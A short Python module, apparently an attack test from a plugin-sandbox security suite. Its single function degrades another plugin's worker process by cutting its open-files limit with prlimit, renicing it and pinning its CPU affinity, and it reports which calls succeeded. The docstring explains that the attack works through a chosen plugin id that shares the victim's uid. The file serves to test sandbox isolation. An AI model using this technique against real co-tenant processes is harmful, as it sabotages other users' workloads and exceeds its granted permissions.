"""Cripple another plugin's worker: lower its open-files limit, renice it, pin its CPU.

Processes of one uid may do this to each other, and Landlock scopes none of it, so a plugin id
chosen to share another plugin's (public, hashed) uid was enough. Native calls come from
``_native``, so only the uid allocation and seccomp can stop it.
"""

import time

from ._native import Native

RLIMIT_NOFILE, PRIO_PROCESS = 7, 0


def attack(event, ctx):
    n, got = Native(), {}
    victim = event["victim_pid"]
    limit = n.buf(16, (3).to_bytes(8, "little") * 2)  # struct rlimit {cur, max} = {3, 3}
    got["prlimit"] = n.call("prlimit", victim, RLIMIT_NOFILE, limit, 0)
    got["setpriority"] = n.call("setpriority", PRIO_PROCESS, victim, 19)
    got["sched_setaffinity"] = n.call("sched_setaffinity", victim, 8, n.buf(8, b"\x01"))
    time.sleep(event.get("hold", 0))
    return {"got": {k: v for k, v in got.items() if v == 0}, "rc": got}
